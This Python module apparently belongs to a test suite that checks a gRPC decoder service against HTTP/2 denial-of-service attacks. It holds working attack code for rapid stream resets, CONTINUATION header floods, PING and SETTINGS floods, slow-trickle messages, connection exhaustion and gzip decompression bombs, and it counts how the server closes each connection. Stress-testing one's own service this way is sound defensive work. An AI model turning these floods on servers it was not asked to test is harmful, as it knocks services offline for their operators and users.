"""Attacks by connections to a gRPC server, in HTTP/2 by hand."""

import asyncio
import contextlib
import gzip
import itertools
import struct
import time
from collections.abc import Awaitable, Callable

from grpc_health.v1 import health_pb2
from maskwire.v1 import decoder_pb2

from . import http2
from .http2 import CONTINUATION, HEADERS, PING, RESET, SETTINGS, call_headers, connection, header
from .kinds import Outcomes, Target, attack

_WATCH = "/grpc.health.v1.Health/Watch"
_STREAM = "/maskwire.v1.DecoderService/SegmentStream"
_SEGMENT = "/maskwire.v1.DecoderService/Segment"
_CLOSED = "closed by the server"


async def _many(
    target: Target,
    count: int,
    act: Callable[[http2.Connection, float], Awaitable[None]],
    *settings: tuple[int, int],
    reads: bool = True,
    again: bool = False,
) -> Outcomes:
    """Opens connections at once, and acts on each until the time is over or the server closes it; `again` says whether
    another takes its place then. Counts how they ended, and what came on those that are read."""
    outcomes, end = Outcomes(), time.monotonic() + target.seconds

    async def one() -> None:
        try:
            async with connection(target.decoder, *settings, reads=reads) as opened:
                try:
                    with contextlib.suppress(TimeoutError):
                        async with asyncio.timeout_at(asyncio.get_running_loop().time() + end - time.monotonic()):
                            await act(opened, end)
                    outcomes["held until the end" if opened.open else _CLOSED] += 1
                finally:
                    outcomes.update(opened.seen)
        except (ConnectionResetError, BrokenPipeError):
            outcomes[_CLOSED] += 1
        except OSError as error:
            outcomes[type(error).__name__] += 1

    async def one_after_another() -> None:
        await one()
        while again and time.monotonic() < end:
            await asyncio.sleep(0.01)
            await one()

    await asyncio.gather(*(one_after_another() for _ in range(count)))
    return outcomes


@attack("calls reset at once", "8 connections that open and reset streams as quickly as they can", token=False)
async def rapid_reset(target: Target) -> Outcomes:
    return await _many(target, 8, _resets(target))


@attack("calls reset again", "the same, and after 300 calls another connection takes the place of each", token=False)
async def rapid_reset_again(target: Target) -> Outcomes:
    return await _many(target, 8, _resets(target, 300), again=True)


@attack("calls reset by a tenant", "the same as *calls reset at once* with a token", token=True)
async def rapid_reset_by_a_tenant(target: Target) -> Outcomes:
    return await _many(target, 8, _resets(target))


def _resets(target: Target, most: int | None = None) -> Callable[[http2.Connection, float], Awaitable[None]]:
    """Returns what opens and resets streams, at most so many."""
    token = [(b"authorization", value.encode()) for _, value in target.metadata]

    async def act(opened: http2.Connection, end: float) -> None:
        for number in itertools.islice(itertools.count(1, 2), most):
            if not opened.open or time.monotonic() > end:
                return
            await opened.call(number, _SEGMENT, *token)
            await opened.send(RESET, 0, number, struct.pack(">I", 8))
            if number % 64 == 1:
                await asyncio.sleep(0)

    return act


@attack("headers without end", "20 connections whose header block goes on and on", token=False)
async def endless_headers(target: Target) -> Outcomes:
    async def act(opened: http2.Connection, end: float) -> None:
        await opened.send(HEADERS, 0, 1, call_headers(_SEGMENT))
        more = b"".join(header(b"x-%d" % number, b"y" * 3900) for number in range(4))
        while opened.open and time.monotonic() < end:
            await opened.send(CONTINUATION, 0, 1, more)
            await asyncio.sleep(0)

    return await _many(target, 20, act)


@attack("metadata", "20 connections with 100 open calls each, and 7 kB of metadata a call", token=False)
async def metadata(target: Target) -> Outcomes:
    async def act(opened: http2.Connection, end: float) -> None:
        for number in range(1, 201, 2):
            await opened.call(number, _STREAM, *((b"x-%d" % one, b"y" * 700) for one in range(10)))
        await asyncio.sleep(end - time.monotonic())

    return await _many(target, 20, act)


@attack("pings", "8 connections that ping without end and read no answer", token=False)
async def pings(target: Target) -> Outcomes:
    async def act(opened: http2.Connection, end: float) -> None:
        while opened.open and time.monotonic() < end:
            await opened.send(PING, 0, 0, bytes(8))
            opened.seen["sent"] += 1
            await asyncio.sleep(0)

    return await _many(target, 8, act, reads=False)


@attack("settings", "8 connections that change their settings without end and read no answer", token=False)
async def settings(target: Target) -> Outcomes:
    async def act(opened: http2.Connection, end: float) -> None:
        while opened.open and time.monotonic() < end:
            await opened.send(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535))
            opened.seen["sent"] += 1
            await asyncio.sleep(0)

    return await _many(target, 8, act, reads=False)


@attack(
    "messages that trickle", "50 connections, on each a message of 60 MiB of which a byte comes at a time", token=False
)
async def trickle(target: Target) -> Outcomes:
    async def act(opened: http2.Connection, end: float) -> None:
        await opened.call(1, _SEGMENT)
        await opened.send(http2.DATA, 0, 1, b"\x00" + struct.pack(">I", 60 << 20))
        while opened.open and time.monotonic() < end:
            await opened.send(http2.DATA, 0, 1, b"x")
            await asyncio.sleep(0.02)

    return await _many(target, 50, act)


@attack("many connections", "1,000 connections, half of which say nothing", token=False)
async def many(target: Target) -> Outcomes:
    async def act(opened: http2.Connection, end: float) -> None:
        await asyncio.sleep(end - time.monotonic())

    outcomes = Outcomes()
    host, _, port = target.decoder.rpartition(":")

    async def silent() -> None:
        try:
            reader, writer = await asyncio.open_connection(host, int(port))
        except OSError as error:
            outcomes[type(error).__name__] += 1
            return
        try:
            await asyncio.wait_for(reader.read(), target.seconds)
            outcomes[_CLOSED] += 1
        except (TimeoutError, OSError) as error:
            outcomes["held until the end" if isinstance(error, TimeoutError) else _CLOSED] += 1
        finally:
            writer.close()

    told, *_ = await asyncio.gather(_many(target, 500, act), *(silent() for _ in range(500)))
    return outcomes + told


@attack("watches of health", "3,000 Watch calls of long names on 30 connections that read nothing", token=False)
async def watches(target: Target) -> Outcomes:
    async def act(opened: http2.Connection, end: float) -> None:
        for number in range(1, 201, 2):
            await opened.call(number, _WATCH)
            name = f"{number}{'y' * 500}"
            await opened.message(number, health_pb2.HealthCheckRequest(service=name).SerializeToString())
        await asyncio.sleep(end - time.monotonic())

    return await _many(target, 30, act, (4, 0))


@attack("compressed messages", "40 gzip messages of 49 kB that hold 48 MiB each, without a token", token=False)
async def compressed(target: Target) -> Outcomes:
    return await _compressed(target)


@attack("compressed messages of a tenant", "the same with a token", token=True)
async def compressed_of_a_tenant(target: Target) -> Outcomes:
    return await _compressed(target)


async def _compressed(target: Target) -> Outcomes:
    packed = gzip.compress(decoder_pb2.SegmentRequest(image_id="x" * (48 << 20)).SerializeToString())
    token = [(b"authorization", value.encode()) for _, value in target.metadata]

    async def act(opened: http2.Connection, end: float) -> None:
        await opened.call(1, _SEGMENT, (b"grpc-encoding", b"gzip"), *token)
        await opened.message(1, packed, compressed=True)
        await asyncio.sleep(end - time.monotonic())

    return await _many(target, 40, act)
